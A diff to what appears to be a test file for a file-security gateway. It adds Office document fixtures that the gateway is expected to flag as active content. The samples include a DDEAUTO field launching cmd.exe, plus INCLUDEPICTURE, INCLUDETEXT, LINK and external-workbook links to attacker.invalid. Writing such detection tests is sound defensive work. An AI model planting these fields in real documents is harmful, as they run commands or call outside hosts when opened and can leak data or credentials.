@@ -8,6 +8,7 @@ import {
   docm,
   docxWithBody,
   docxWithExternalLink,
+  docxWithStoryPart,
   lyingSizeBomb,
   nestedZipBomb,
   pptWithStorage,
@@ -15,6 +16,7 @@ import {
   sharedLocalHeaderZip,
   vbaProjectOle2,
   xlsWorkbook,
+  xlsxWithExternalWorkbook,
   docx,
   pdf,
   png,
@@ -105,6 +107,34 @@ describe(`file security through the gateway on ${testDriverName()}`, () => {
       'a DDEAUTO field split over runs',
       'letter.docx',
       () => docxWithBody(complexField(['DDE', 'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'])),
+      'document_active_content',
+    ],
+    [
+      'an INCLUDEPICTURE field fetching a remote picture',
+      'letter.docx',
+      () => docxWithBody('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.invalid/p.png&quot; \\d "/>'),
+      'document_active_content',
+    ],
+    [
+      'an INCLUDETEXT field from a share, split over runs in a header',
+      'letter.docx',
+      () => docxWithStoryPart('header1', complexField([' INCLUDE', 'TEXT "\\\\\\\\attacker.invalid\\\\s\\\\a.docx" '])),
+      'document_active_content',
+    ],
+    [
+      'a LINK field to a remote workbook in a footer',
+      'letter.docx',
+      () =>
+        docxWithStoryPart(
+          'footer1',
+          complexField([' LINK Excel.Sheet.12 "https://attacker.invalid/b.xlsx" "A1" \\a ']),
+        ),
+      'document_active_content',
+    ],
+    [
+      'a workbook linked to a remote workbook',
+      'figures.xlsx',
+      () => xlsxWithExternalWorkbook('https://attacker.invalid/b.xlsx'),
       'document_active_content',
     ],
     [
